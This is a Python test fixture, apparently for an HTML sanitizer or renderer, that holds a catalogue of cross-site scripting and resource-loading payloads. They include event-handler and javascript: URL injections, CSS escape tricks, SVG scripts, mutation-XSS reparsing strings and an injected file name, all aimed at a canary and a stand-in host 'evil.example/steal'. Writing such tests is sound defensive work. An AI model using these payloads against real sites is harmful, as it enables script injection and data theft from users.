"""Pages that try to run scripts, leave the machine or break out of their frame. None may succeed;
``__ruined`` is the canary.
"""

from __future__ import annotations

RUIN = "top.__ruined=1;alert(1)"
OUT = "http://evil.example/steal"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUIN}</script><script src={OUT}.js></script>",
    "handlers": f"<img src=x onerror='{RUIN}'><body onload='{RUIN}'>"
    f"<details open ontoggle='{RUIN}'>x</details><p onclick='{RUIN}'>press</p>",
    "urls": f"<a href='javascript:{RUIN}'>a</a><a href='data:text/html,<script>{RUIN}</script>'>b</a><a href='{OUT}'>c</a>"
    f"<form action='javascript:{RUIN}'><button formaction='{OUT}'>d</button><input type=image src={OUT}.png></form>",
    "frames": f"<iframe src='javascript:{RUIN}'></iframe><iframe srcdoc='<script>{RUIN}</script>'></iframe><object data={OUT}></object>"
    f"<embed src={OUT}><applet code={OUT}>e</applet><frameset><frame src={OUT}></frameset>",
    "meta": f"<meta http-equiv=refresh content='0;url={OUT}'><base href='{OUT}/'><link rel=stylesheet href={OUT}.css>"
    f"<link rel=preload as=image href={OUT}.png><link rel=icon href={OUT}.ico><link rel=dns-prefetch href=//evil.example>",
    "resources": f"<img src={OUT}.png srcset='{OUT}2.png 2x'><video poster={OUT}.png src={OUT}.mp4><source src={OUT}></video>"
    f"<audio src={OUT}.mp3 autoplay></audio><table background={OUT}.gif><td background={OUT}.gif>f</table><body background={OUT}.gif>"
    f"<picture><source srcset={OUT}.webp><img></picture><bgsound src={OUT}.wav><input type=image src={OUT}.png>",
    "css": f"<style>@import '{OUT}.css'; @\\69mport '{OUT}i.css'; p{{background:url({OUT}.png)}} b{{background:u\\72l({OUT}u.png)}}"
    f"i{{background-image:image-set('{OUT}s.png' 1x)}} @font-face{{font-family:x;src:url({OUT}.woff)}} p{{font-family:x}}"
    f"u@import 'x';rl({OUT}j.png) *{{cursor:url({OUT}c.cur),auto}}</style><p>g<b>h</b><i style='background:\\75 rl({OUT}t.png)'>i</i>"
    f"<p style='list-style-image:url({OUT}l.png);behavior:url({OUT})'>j</p><style></style><script>{RUIN}</script>",
    "svg": f"<svg onload='{RUIN}'><script>{RUIN}</script><use href='{OUT}.svg#x'/><image href='{OUT}.png'/>"
    f"<a xlink:href='javascript:{RUIN}'>"
    f"<text>k</text></a><animate attributeName=href values='javascript:{RUIN}'/>"
    f"<style>*{{background:url({OUT}v.png)}}<img src=x onerror='{RUIN}'>"
    f"</style><foreignObject><img src=x onerror='{RUIN}'><p>l</p></foreignObject><rect fill='url({OUT}.svg#p)'/></svg>",
    "reparsed": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUIN}&gt;'></table></math>"
    f"<noscript><p title='</noscript><img src=x onerror={RUIN}>'>m</p></noscript><textarea></textarea><img src=x onerror='{RUIN}'>"
    f"<xmp></xmp><script>{RUIN}</script><select><option><script>{RUIN}</script>n</select><template><script>{RUIN}</script></template>",
    "attributes": f"""<p class='"><script>{RUIN}</script>' id="'><img src=x onerror={RUIN}>" """
    f"""title='</style><script>{RUIN}</script>'>o</p>"""
    f"<p data-n=0 data-e=0 style='x:</style><script>{RUIN}</script>'>p</p><ruiji-t data-n=0>q</ruiji-t>",
    "text": f"&lt;script&gt;{RUIN}&lt;/script&gt;&lt;img src=x onerror={RUIN}&gt; ${{{RUIN}}} {{{{{RUIN}}}}} </textarea></title>",
}
TITLE = f"<title>&lt;/title&gt;&lt;script&gt;{RUIN}&lt;/script&gt;&lt;img src=x onerror={RUIN}&gt;</title>"
FILE_NAME = "<img src=x onerror=alert(1)>'\".html"


def payload_page(payload: str) -> str:
    return f"<!DOCTYPE html><html><head>{TITLE}</head><body><h1>Heading</h1>{payload}<p>The end of the page.</p></body></html>"
